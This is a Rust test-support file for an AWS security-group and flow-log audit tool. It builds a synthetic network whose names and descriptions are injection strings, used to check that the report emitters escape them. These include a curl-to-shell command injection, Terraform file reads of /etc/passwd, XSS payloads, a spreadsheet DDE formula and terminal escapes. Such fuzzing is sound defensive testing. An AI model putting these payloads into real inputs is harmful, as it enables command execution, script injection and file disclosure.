//! One file per format we write.

mod audit_json;
mod formats;
mod graph;
mod report;
pub(crate) mod shell;
pub(crate) mod terraform;
pub(crate) mod tools;

use std::fmt::Write as _;
use std::path::PathBuf;

use closegate::audit::Audit;

use crate::common::{audit_paths, sample};

/// The sample data's audit.
pub(crate) fn audit() -> Audit {
    audit_paths(
        &[sample().join("flows/custom")],
        &sample().join("inventory"),
    )
}

/// One file of a run.
fn file(audit: &Audit, name: &str) -> Vec<u8> {
    let files = closegate::emit::files(audit).unwrap();
    files.into_iter().find(|(path, _)| *path == name).unwrap().1
}

pub(crate) fn text(audit: &Audit, name: &str) -> String {
    String::from_utf8(file(audit, name)).unwrap()
}

fn json(audit: &Audit, name: &str) -> serde_json::Value {
    serde_json::from_slice(&file(audit, name)).unwrap()
}

/// Names that try to get out of wherever they are written.
const HOSTILE: &[&str] = &[
    "plain",
    "\"; curl evil | sh; \"",
    "${file(\"/etc/passwd\")} %{ for x in y }",
    "${a} $%{ if true }%${file(\"/etc/passwd\")} $${ %%{",
    "</td><script>alert(1)</script>",
    "| a | b |\n\n# heading\n\n[x](http://evil.example)",
    "`backtick` *bold* _under_ \\n",
    "back\\slash \\\" \\N \\l",
    "\u{202e}gnirts\u{202c} \u{200b}\u{feff}",
    "emoji 🔥 \u{1b}[31mred\u{7}",
    "=cmd|' /C calc'!A0",
    "\"><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script><!--",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)//' onmouseover='alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "1. list",
    "- list",
    "http://evil.example www.evil.example",
    "plain",
];

/// An audit of a network whose groups carry those names: each talks to the next.
pub(crate) fn hostile_audit() -> Audit {
    let dir = tempfile::tempdir().unwrap();
    let long = "x".repeat(255);
    let names: Vec<&str> = HOSTILE.iter().copied().chain([long.as_str()]).collect();
    let open = serde_json::json!([{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]);
    let (mut groups, mut interfaces) = (Vec::new(), Vec::new());
    let mut log =
        "interface-id srcaddr srcport dstaddr dstport protocol action tcp-flags start\n".to_owned();
    for (number, name) in names.iter().enumerate() {
        let (group, own, next) = (
            format!("sg-{number:017}"),
            10 + number,
            10 + (number + 1) % names.len(),
        );
        groups.push(serde_json::json!({"GroupId": group, "GroupName": name, "Description": name, "VpcId": "vpc-1", "OwnerId": "1",
            "IpPermissions": [{"IpProtocol": "tcp", "FromPort": 80, "ToPort": 80, "IpRanges": [{"CidrIp": "10.0.0.0/8", "Description": name}]}],
            "IpPermissionsEgress": open}));
        interfaces.push(serde_json::json!({"NetworkInterfaceId": format!("eni-{number}"), "InterfaceType": "interface", "VpcId": "vpc-1", "Description": name,
            "PrivateIpAddress": format!("10.0.0.{own}"), "Groups": [{"GroupId": group}], "TagSet": [{"Key": "Name", "Value": name}]}));
        writeln!(
            log,
            "eni-{number} 10.0.0.{own} 40000 10.0.0.{next} 80 6 ACCEPT 2 1000"
        )
        .unwrap();
        writeln!(
            log,
            "eni-{number} 10.0.0.{own} 40000 198.51.100.{own} 443 6 ACCEPT 2 1000"
        )
        .unwrap();
        writeln!(
            log,
            "eni-{number} 10.0.0.{own} 40000 198.51.100.{own} 6667 6 ACCEPT 2 1000"
        )
        .unwrap();
    }
    log += "what | is <b>this</b>\u{1b}[31m\n";
    let write = |name: &str, value: &serde_json::Value| {
        std::fs::write(dir.path().join(name), value.to_string()).unwrap();
    };
    write("g.json", &serde_json::json!({"SecurityGroups": groups}));
    write(
        "i.json",
        &serde_json::json!({"NetworkInterfaces": interfaces}),
    );
    let flows: PathBuf = dir.path().join("<img src=x>.log");
    std::fs::write(&flows, log).unwrap();
    let audit = audit_paths(&[flows], dir.path());
    assert_eq!(audit.replay.permitted, names.len() as u64 * 2);
    audit
}
